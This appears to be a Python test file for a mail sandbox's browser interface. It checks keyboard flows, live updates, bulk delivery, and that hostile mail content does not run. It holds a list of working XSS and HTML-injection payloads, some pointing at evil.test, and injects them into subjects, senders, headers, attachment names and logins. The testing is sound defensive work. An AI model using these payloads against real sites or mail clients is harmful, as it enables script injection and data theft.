"""The page in Chromium, from Debian: flows by keyboard, live updates, ten thousand messages, and
mail made to run in it."""
import os
import shutil
import socket
import subprocess
import threading

import pytest

import box
import godwit
from test_sandbox_clients import peers

XSS = [
    "<script>window.executed=1;ran('script')</script>", "<img src=x onerror=\"ran('onerror')\">",
    "<svg><animate onbegin=\"ran('begin')\" attributeName=x dur=1s>", "<svg onload=\"ran('svg')\">",
    "<svg><feImage href=\"http://tracker.test/f\"/></svg>", "<svg><use href=\"http://tracker.test/u#x\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran(1)&gt;\">",
    "<base href=\"http://evil.test/\"><a href=x>x</a><img src=y.png>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.test/r\">",
    "<form action=\"http://evil.test/f\"><input name=a autofocus onfocus=\"ran('focus')\"></form>",
    "<style>@import 'http://evil.test/i.css'; body{background:url(http://evil.test/b)}</style>",
    "<link rel=stylesheet href=http://evil.test/s.css><link rel=prefetch href=http://evil.test/p><link rel=dns-prefetch href=//evil.test>",
    "<iframe src=\"javascript:ran('iframe')\"></iframe><iframe srcdoc=\"<script>parent.ran('srcdoc')</script>\"></iframe>",
    "<a href=\"javascript:ran('a')\" autofocus>x</a><object data=\"data:text/html,<script>ran(1)</script>\"></object>",
    "<embed src=http://evil.test/e><video src=http://evil.test/v autoplay><source src=http://evil.test/s></video>",
    "<body onload=\"ran('body')\"><input type=image src=http://evil.test/i>",
    "<style>input[value^=a]{background:url(http://evil.test/leak)}</style><input value=abc>",
    "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\"></noscript>",
    "<template><script>ran('template')</script></template><details open ontoggle=ran('toggle')>x</details>",
    "<picture><source srcset=\"http://evil.test/p\"><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"></picture>",
]


def browser(sandbox, mode, out=""):
    if shutil.which("chromium") is None:
        pytest.skip("there is no chromium")
    script = os.path.join(godwit.TOP, "tests", "clients", "page.js")
    return subprocess.Popen([peers.available("node"), script, sandbox.url, str(sandbox.smtp), mode, out],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "NODE_PATH": peers.node_modules()})


def finish(process):
    said, errors = process.communicate(timeout=240)
    assert process.returncode == 0, said + errors
    assert said.strip().endswith("ok")


def fill(sandbox, count=30):
    for n in range(count):
        sandbox.deliver(box.mail(f"Order {n}", f"Order {n} is on its way.", sender=f"Shop {n} <s{n}@shop.test>"))
    with socket.create_connection(("127.0.0.1", sandbox.smtp), timeout=20) as s:
        s.sendall(b"EHLO <script>alert(1)</script>\r\nNOSUCH <img src=x onerror=alert(1)>\r\nQUIT\r\n")
        while s.recv(65536):
            pass
    sandbox.deliver(box.mail(
        "Your sign-in code", "Your verification code is 482913. It expires in ten minutes.",
        html="<h1>Sign in</h1><p>Your verification code is <b>482913</b></p>"
             "<a href='https://app.test/verify?t=abc'>Verify</a>", files=[("a.pdf", "application/pdf", b"%PDF")]))
    sandbox.wait(search="sign-in")


@pytest.mark.parametrize("mode", ["flows", "dark"])
def test_flows(mode, tmp_path):
    with box.Sandbox("--label", "<b>checkout") as sandbox:
        fill(sandbox)
        finish(browser(sandbox, mode, str(tmp_path)))


def test_webhooks_on_the_page(tmp_path):
    with box.Sandbox("--egress", "loopback") as sandbox:
        finish(browser(sandbox, "webhooks", str(tmp_path)))
        assert (tmp_path / "webhooks.png").exists()


def test_a_release_from_the_page(tmp_path):
    with box.Sandbox() as outside, box.Sandbox("--relay", f"127.0.0.1:{outside.smtp}", "--release-to", "*@team.test") as sandbox:
        sandbox.deliver(box.mail("from the page"))
        sandbox.wait(search="page")
        finish(browser(sandbox, "release", str(tmp_path)))
        got = outside.wait(search="subject:page")["message"]
        assert got["envelope"]["to"] == ["a@team.test", "b@team.test"]


def test_new_mail_shows_by_itself():
    with box.Sandbox() as sandbox:
        fill(sandbox, 3)
        process = browser(sandbox, "live")
        assert process.stdout.readline().strip() == "ready", process.stderr.read()
        sandbox.deliver(box.mail("just now"))
        finish(process)


def test_ten_thousand_messages():
    with box.Sandbox() as sandbox:
        def some(first):
            import smtplib
            with smtplib.SMTP("127.0.0.1", sandbox.smtp, timeout=60) as client:
                for n in range(first, first + 2500):
                    client.sendmail("a@a.test", ["b@b.test"], f"Subject: message {n}\r\n\r\ntext {n}\r\n")
        threads = [threading.Thread(target=some, args=(n * 2500,)) for n in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        godwit.wait_for(lambda: sandbox.own("GET", "/messages?limit=1")["count"] == 10000, "10,000", 120)
        finish(browser(sandbox, "scroll"))


def test_nothing_of_a_message_runs():
    with box.Sandbox() as sandbox:
        for n, html in enumerate(XSS):
            evil = f"<img src=x onerror=ran({n})>"
            m = box.mail(f"x {evil}", f"{evil}", html=f"<html><body>{html}</body></html>",
                         sender=f'"{evil}" <a@a.test>', files=[(f"{evil}.html", "text/html", html.encode())])
            m["X-" + "Evil"] = evil
            sandbox.deliver(m, login=(evil, "x"))
        sandbox.own("GET", f"/wait?count={len(XSS)}")
        finish(browser(sandbox, "hostile"))
